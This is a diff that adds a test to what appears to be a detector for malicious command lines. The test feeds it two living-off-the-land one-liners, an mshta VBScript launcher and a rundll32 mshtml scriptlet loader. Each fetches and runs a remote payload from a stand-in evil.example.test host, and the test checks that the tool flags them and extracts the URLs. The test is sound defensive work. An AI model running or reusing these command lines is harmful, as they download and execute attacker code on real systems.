@@ -151,3 +151,14 @@ test('ordinary commands stay benign', async () => {
     assert.equal(buildReport(run).verdict, 'benign', `${line}: ${JSON.stringify(run.findings.map((f) => [f.id, f.score]))}`);
   }
 });
+
+test('inline script given to mshta or rundll32: its commands and URLs are followed', async () => {
+  const mshta = await analyze('mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -nop -c iwr http://evil.example.test/z.ps1"", 0:close")', 'lnk-target.cmd');
+  assert.ok(ids(mshta).has('cmdline.run.mshta-inline'), 'inline mshta');
+  assert.equal(decodedLayers(mshta).length, 1, 'the PowerShell it runs is a decoded layer');
+  assert.ok(mshta.iocs.some((i) => i.type === 'url' && i.value === 'http://evil.example.test/z.ps1' && i.role === 'payload-url'), 'payload URL');
+  const rundll = await analyze('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://evil.example.test/r.sct")', 'lnk-target.cmd');
+  assert.ok(ids(rundll).has('cmdline.run.rundll32-script'), 'rundll32 running script');
+  assert.ok(rundll.iocs.some((i) => i.type === 'url' && i.value === 'https://evil.example.test/r.sct' && i.role === 'payload-url'), 'scriptlet URL');
+  assert.equal(buildReport(rundll).verdict, 'malicious');
+});
